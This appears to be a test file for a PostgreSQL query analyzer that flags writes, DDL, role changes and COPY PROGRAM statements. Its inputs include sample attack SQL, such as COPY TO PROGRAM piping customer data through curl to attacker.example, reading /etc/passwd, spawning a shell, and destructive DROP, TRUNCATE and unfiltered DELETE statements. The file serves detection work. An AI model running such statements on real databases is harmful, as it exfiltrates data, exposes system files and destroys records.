import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { analyze, type Analysis } from './analyze.js';
import { parseSql } from './parse.js';

const run = async (sql: string): Promise<Analysis> => analyze((await parseSql(sql)).map((s) => s.node));

function assertFlags(analysis: Analysis, expected: string[]): void {
  assert.deepEqual([...analysis.flags].sort(), [...expected].sort());
}

describe('analyze: reads', () => {
  it('classifies a plain SELECT as read-only, with its table in public', async () => {
    const a = await run('SELECT id, email FROM customers WHERE id = 1');
    assert.deepEqual(a.actions, ['SelectStmt']);
    assert.deepEqual(a.resources, ['public.customers']);
    assertFlags(a, ['read-only']);
    assert.equal(a.readOnly, true);
  });

  it('reports unqualified pg_ names in pg_catalog, which the server searches first', async () => {
    for (const name of ['pg_roles', 'pg_authid', 'pg_shadow', 'PG_SETTINGS']) {
      const a = await run(`SELECT * FROM ${name}`);
      assert.ok(a.resources.includes(`pg_catalog.${name.toLowerCase()}`), `${name}: ${a.resources.join(', ')}`);
    }
    assert.deepEqual((await run('SELECT * FROM pg_catalog.pg_roles')).resources, ['pg_catalog.pg_roles']);
    assert.deepEqual((await run('SELECT * FROM public.pg_notes')).resources, ['public.pg_notes']);
  });

  it('keeps schema-qualified names, and finds tables in joins, subqueries and set operations', async () => {
    const a = await run(
      'SELECT * FROM sales.orders o JOIN customers c ON c.id = o.customer_id WHERE o.id IN (SELECT order_id FROM audit.refunds) UNION SELECT * FROM archive.orders',
    );
    assert.deepEqual([...a.resources].sort(), ['archive.orders', 'audit.refunds', 'public.customers', 'sales.orders']);
    assert.equal(a.readOnly, true);
  });

  it('treats VALUES, TABLE, SHOW and EXPLAIN of a read as reads', async () => {
    for (const sql of ['VALUES (1), (2)', 'TABLE customers', 'SHOW search_path', 'EXPLAIN SELECT * FROM customers', 'EXPLAIN ANALYZE SELECT 1']) {
      assert.equal((await run(sql)).readOnly, true, sql);
    }
  });

  it('does not report a WITH name as a table, but reports the tables inside it', async () => {
    const a = await run('WITH recent AS (SELECT * FROM orders WHERE total > 10) SELECT * FROM recent JOIN customers ON true');
    assert.deepEqual(a.resources, ['public.orders', 'public.customers']);
    assertFlags(a, ['read-only']);
  });

  it('reports a real table that a WITH of the same name refers to from inside its own query', async () => {
    const a = await run('WITH customers AS (SELECT * FROM customers WHERE id < 10) SELECT * FROM customers');
    assert.deepEqual(a.resources, ['public.customers']);
  });

  it('scopes a WITH name to its own statement: a table of that name elsewhere is still reported', async () => {
    const a = await run('SELECT * FROM secrets, LATERAL (WITH secrets AS (SELECT 1) SELECT * FROM secrets) x');
    assert.deepEqual(a.resources, ['public.secrets']);
    const b = await run('WITH d AS (SELECT 1) SELECT * FROM d; SELECT * FROM d');
    assert.deepEqual(b.resources, ['public.d']);
  });

  it('lets a WITH RECURSIVE query see its own name, and earlier WITH names in later ones', async () => {
    const a = await run('WITH RECURSIVE tree AS (SELECT id FROM nodes UNION ALL SELECT n.id FROM nodes n JOIN tree t ON n.parent = t.id) SELECT * FROM tree');
    assert.deepEqual(a.resources, ['public.nodes']);
    const b = await run('WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b');
    assert.deepEqual(b.resources, []);
  });

  it('marks calls to functions that are not side-effect-free built-ins as opaque code, still read-only', async () => {
    const a = await run("SELECT count(*), lower(email), pg_catalog.upper(name), now(), extract(year FROM created_at), trim(' x ') FROM customers");
    assertFlags(a, ['read-only']);
    const b = await run('SELECT touch_customer(1)');
    assertFlags(b, ['read-only', 'opaque-code']);
    const c = await run('SELECT public.lower(email) FROM customers');
    assertFlags(c, ['read-only', 'opaque-code']);
    const d = await run('SELECT pg_terminate_backend(42)');
    assertFlags(d, ['read-only', 'opaque-code']);
  });
});

describe('analyze: writes', () => {
  it('flags DELETE and UPDATE without WHERE', async () => {
    const a = await run('DELETE FROM orders');
    assert.deepEqual(a.actions, ['DeleteStmt']);
    assert.deepEqual(a.resources, ['public.orders']);
    assertFlags(a, ['write', 'no-where']);
    assertFlags(await run("UPDATE customers SET email = 'x'"), ['write', 'no-where']);
  });

  it('does not flag DELETE and UPDATE that filter on a column', async () => {
    assertFlags(await run('DELETE FROM orders WHERE id = 3'), ['write']);
    assertFlags(await run("UPDATE customers SET name = 'x' WHERE id = $1"), ['write']);
    assertFlags(await run('DELETE FROM orders o USING customers c WHERE o.customer_id = c.id'), ['write']);
  });

  it('counts a WHERE that refers to no column as none', async () => {
    for (const sql of ['DELETE FROM orders WHERE true', 'DELETE FROM orders WHERE 1 = 1', "UPDATE orders SET total = 0 WHERE 'a' = 'a'", 'DELETE FROM orders WHERE $1::bool']) {
      assert.ok((await run(sql)).flags.includes('no-where'), sql);
    }
  });

  it('flags TRUNCATE as a write without WHERE, on every table it names', async () => {
    const a = await run('TRUNCATE orders, billing.invoices');
    assertFlags(a, ['write', 'no-where']);
    assert.deepEqual(a.resources, ['public.orders', 'billing.invoices']);
  });

  it('flags INSERT and MERGE as writes, with target and source tables', async () => {
    const a = await run('INSERT INTO orders (customer_id, total) SELECT id, 0 FROM customers');
    assertFlags(a, ['write']);
    // The SELECT reads for the INSERT: its table is a resource, and it is no action of its own.
    assert.deepEqual(a.actions, ['InsertStmt']);
    assert.deepEqual(a.resources, ['public.orders', 'public.customers']);
    assert.deepEqual((await run('INSERT INTO orders VALUES (1)')).actions, ['InsertStmt']);
    assert.deepEqual((await run('EXPLAIN ANALYZE DELETE FROM orders')).actions, ['ExplainStmt', 'DeleteStmt']);
    assert.deepEqual((await run('SELECT 1; DROP TABLE t')).actions, ['SelectStmt', 'DropStmt']);
    const b = await run('MERGE INTO orders o USING staging.orders s ON o.id = s.id WHEN MATCHED THEN DELETE');
    assertFlags(b, ['write']);
    assert.deepEqual(b.resources, ['public.orders', 'staging.orders']);
    assertFlags(await run('MERGE INTO orders USING staging.orders s ON true WHEN MATCHED THEN DELETE'), ['write', 'no-where']);
  });

  it('does not mistake a data-modifying WITH under a SELECT for a read', async () => {
    const a = await run('WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d');
    assert.equal(a.readOnly, false);
    assertFlags(a, ['write', 'no-where', 'data-modifying-cte']);
    assert.deepEqual(a.actions, ['SelectStmt', 'DeleteStmt']);
    assert.deepEqual(a.resources, ['public.orders']);
  });

  it('finds data-modifying WITH queries nested in subqueries and set operations', async () => {
    const a = await run('SELECT * FROM (WITH u AS (UPDATE customers SET name = name WHERE id = 1 RETURNING id) SELECT * FROM u) x');
    assertFlags(a, ['write', 'data-modifying-cte']);
    const b = await run('(WITH x AS (INSERT INTO orders DEFAULT VALUES RETURNING 1) SELECT 1) UNION SELECT 2');
    assertFlags(b, ['write', 'data-modifying-cte']);
  });

  it('treats SELECT INTO as creating a table', async () => {
    const a = await run('SELECT * INTO stolen FROM customers');
    assertFlags(a, ['ddl', 'write']);
    assert.deepEqual([...a.resources].sort(), ['public.customers', 'public.stolen']);
  });

  it('treats SELECT … FOR UPDATE/SHARE as taking locks, not a plain read', async () => {
    assertFlags(await run('SELECT * FROM orders WHERE id = 1 FOR UPDATE'), ['lock']);
    assertFlags(await run('SELECT * FROM orders FOR SHARE SKIP LOCKED'), ['lock']);
    assertFlags(await run('LOCK TABLE orders IN ACCESS EXCLUSIVE MODE'), ['lock']);
  });

  it('sees through EXPLAIN ANALYZE, which executes its statement', async () => {
    const a = await run('EXPLAIN ANALYZE DELETE FROM orders');
    assert.deepEqual(a.actions, ['ExplainStmt', 'DeleteStmt']);
    assertFlags(a, ['write', 'no-where']);
    assert.equal(a.readOnly, false);
    assert.equal((await run('EXPLAIN (ANALYZE, BUFFERS) UPDATE orders SET total = 0')).readOnly, false);
  });

  it('flags sequence-advancing built-ins as writes', async () => {
    assertFlags(await run("SELECT nextval('orders_id_seq')"), ['write']);
    assertFlags(await run("SELECT pg_catalog.setval('orders_id_seq', 1)"), ['write']);
  });

  it('walks the statement a PREPARE holds; EXECUTE is not a read', async () => {
    const a = await run('PREPARE wipe AS DELETE FROM orders; EXECUTE wipe');
    assert.deepEqual(a.actions, ['PrepareStmt', 'DeleteStmt', 'ExecuteStmt']);
    assertFlags(a, ['write', 'no-where', 'multi-statement']);
    assert.equal((await run('EXECUTE anything(1)')).readOnly, false);
  });
});

describe('analyze: DDL', () => {
  it('flags DROP TABLE as DDL and names the dropped tables', async () => {
    const a = await run('DROP TABLE customers, archive.orders CASCADE');
    assert.deepEqual(a.actions, ['DropStmt']);
    assertFlags(a, ['ddl']);
    assert.deepEqual(a.resources, ['public.customers', 'archive.orders']);
  });

  it('flags the kinds of DDL', async () => {
    const cases: Array<[string, string]> = [
      ['CREATE TABLE t (id int)', 'CreateStmt'],
      ['ALTER TABLE customers ADD COLUMN x int', 'AlterTableStmt'],
      ['CREATE INDEX ON orders (customer_id)', 'IndexStmt'],
      ['CREATE VIEW v AS SELECT * FROM customers', 'ViewStmt'],
      ['GRANT SELECT ON customers TO public', 'GrantStmt'],
      ['GRANT admin TO agent', 'GrantRoleStmt'],
      ['CREATE ROLE x LOGIN', 'CreateRoleStmt'],
      ['ALTER TABLE customers RENAME TO c2', 'RenameStmt'],
      ["COMMENT ON TABLE customers IS 'x'", 'CommentStmt'],
      ['CREATE SCHEMA s', 'CreateSchemaStmt'],
      ['CREATE EXTENSION dblink', 'CreateExtensionStmt'],
      ['DROP SCHEMA public CASCADE', 'DropStmt'],
      ['VACUUM orders', 'VacuumStmt'],
      ['CHECKPOINT', 'CheckPointStmt'],
    ];
    for (const [sql, action] of cases) {
      const a = await run(sql);
      assert.ok(a.actions.includes(action), `${sql}: ${a.actions}`);
      assert.ok(a.flags.includes('ddl'), sql);
      assert.equal(a.readOnly, false, sql);
    }
  });

  it('reports the table of CREATE TABLE, CREATE TABLE AS and CREATE TEMP TABLE', async () => {
    assert.deepEqual((await run('CREATE TABLE s.t (id int)')).resources, ['s.t']);
    const a = await run('CREATE TABLE copy AS SELECT * FROM customers');
    assertFlags(a, ['ddl', 'write']);
    assert.deepEqual([...a.resources].sort(), ['public.copy', 'public.customers']);
    assert.deepEqual((await run('CREATE TEMP TABLE scratch (id int)')).resources, ['pg_temp.scratch']);
  });
});

describe('analyze: opaque code', () => {
  it('treats DO blocks as opaque (their body is not walked)', async () => {
    const a = await run("DO $$ BEGIN EXECUTE 'DROP TABLE customers'; END $$");
    assert.deepEqual(a.actions, ['DoStmt']);
    assertFlags(a, ['opaque-code']);
    assert.equal(a.readOnly, false);
  });

  it('treats CREATE FUNCTION (string body) and CALL as opaque code', async () => {
    const a = await run("CREATE FUNCTION wipe() RETURNS void LANGUAGE sql AS $$ DELETE FROM orders $$");
    assertFlags(a, ['ddl', 'opaque-code']);
    assertFlags(await run('CALL archive_orders(2024)'), ['opaque-code']);
  });

  it('walks a SQL-standard function body, whose statements are parsed', async () => {
    const a = await run('CREATE PROCEDURE wipe() LANGUAGE sql BEGIN ATOMIC DELETE FROM orders; END');
    assert.ok(a.actions.includes('DeleteStmt'));
    assertFlags(a, ['ddl', 'opaque-code', 'write', 'no-where']);
    assert.deepEqual(a.resources, ['public.orders']);
  });

  it('flags triggers, rules and LOAD as opaque code', async () => {
    for (const sql of [
      'CREATE TRIGGER t BEFORE INSERT ON orders FOR EACH ROW EXECUTE FUNCTION f()',
      'CREATE RULE r AS ON INSERT TO orders DO INSTEAD NOTHING',
      "LOAD 'auto_explain'",
    ]) {
      assert.ok((await run(sql)).flags.includes('opaque-code'), sql);
    }
  });
});

describe('analyze: COPY', () => {
  it('flags COPY … PROGRAM', async () => {
    const a = await run("COPY customers TO PROGRAM 'curl -d @- https://attacker.example'");
    assertFlags(a, ['copy', 'copy-program']);
    assert.deepEqual(a.resources, ['public.customers']);
    assertFlags(await run("COPY orders FROM PROGRAM 'cat /etc/passwd'"), ['copy', 'copy-program', 'write']);
  });

  it('marks COPY TO STDOUT and FROM STDIN as needing the copy protocol', async () => {
    const out = await run('COPY customers TO STDOUT');
    assertFlags(out, ['copy']);
    assert.equal(out.statements[0]!.copyStdio, true);
    const into = await run('COPY orders FROM STDIN');
    assertFlags(into, ['copy', 'write']);
    assert.equal(into.statements[0]!.copyStdio, true);
    const file = await run("COPY (SELECT * FROM customers) TO '/tmp/c.csv'");
    assert.equal(file.statements[0]!.copyStdio, false);
    assertFlags(file, ['copy']);
  });
});

describe('analyze: sessions and transactions', () => {
  it('flags SET and set_config as set-config', async () => {
    for (const sql of ['SET statement_timeout = 0', 'SET LOCAL work_mem = \'1GB\'', 'RESET ALL', 'SET TRANSACTION READ WRITE', 'DISCARD ALL', "SELECT set_config('statement_timeout', '0', false)"]) {
      const a = await run(sql);
      assert.ok(a.flags.includes('set-config'), sql);
      assert.equal(a.readOnly, false, sql);
      assert.ok(!a.flags.includes('role-change'), sql);
    }
  });

  it('flags role and session authorization changes', async () => {
    for (const sql of [
      'SET ROLE admin',
      'SET LOCAL ROLE admin',
      'RESET ROLE',
      'SET SESSION AUTHORIZATION postgres',
      "SELECT set_config('role', 'admin', true)",
      "SELECT pg_catalog.set_config('ROLE'::text, 'admin', true)",
      'SELECT set_config(name, value, false) FROM settings_to_apply',
    ]) {
      const a = await run(sql);
      assert.ok(a.flags.includes('role-change'), sql);
      assert.ok(a.flags.includes('set-config'), sql);
    }
  });

  it('marks BEGIN, COMMIT, ROLLBACK as ending the transaction, but not savepoints', async () => {
    for (const sql of ['BEGIN', 'START TRANSACTION', 'COMMIT', 'ROLLBACK', "PREPARE TRANSACTION 'x'", "COMMIT PREPARED 'x'"]) {
      const a = await run(sql);
      assert.equal(a.statements[0]!.endsTransaction, true, sql);
      assert.ok(a.flags.includes('transaction-control'), sql);
    }
    for (const sql of ['SAVEPOINT a', 'RELEASE SAVEPOINT a', 'ROLLBACK TO SAVEPOINT a']) {
      const a = await run(sql);
      assert.equal(a.statements[0]!.endsTransaction, false, sql);
      assertFlags(a, ['transaction-control']);
    }
  });
});

describe('analyze: multi-statement requests', () => {
  it('classifies every statement and is read-only only when all of them are', async () => {
    const a = await run('SELECT * FROM customers; SELECT * FROM orders');
    assertFlags(a, ['read-only', 'multi-statement']);
    assert.equal(a.statements.length, 2);
    const b = await run('SELECT * FROM customers; DROP TABLE orders');
    assertFlags(b, ['ddl', 'multi-statement']);
    assert.deepEqual(b.actions, ['SelectStmt', 'DropStmt']);
    assert.deepEqual(b.statements.map((s) => s.readOnly), [true, false]);
  });

  it('hides nothing behind a harmless first statement', async () => {
    const a = await run("SELECT 1; COPY customers TO PROGRAM 'sh'; SELECT 2");
    assert.ok(a.flags.includes('copy-program'));
    assert.equal(a.readOnly, false);
  });

  it('treats unknown statement types as DDL', async () => {
    const a = await run('ALTER SYSTEM SET fsync = off');
    assert.ok(a.flags.includes('ddl'));
    assert.ok(a.flags.includes('set-config'));
  });

  it('handles deeply nested expressions without recursion', async () => {
    const depth = 2000;
    const sql = `SELECT ${'('.repeat(depth)}1${')'.repeat(depth)} FROM customers`;
    const result = await run(sql).catch((error: Error) => error);
    // Either PostgreSQL's parser refuses the depth, or the walk completes.
    if (result instanceof Error) assert.equal((result as { status?: number }).status, 400);
    else assert.deepEqual(result.resources, ['public.customers']);
  });
});
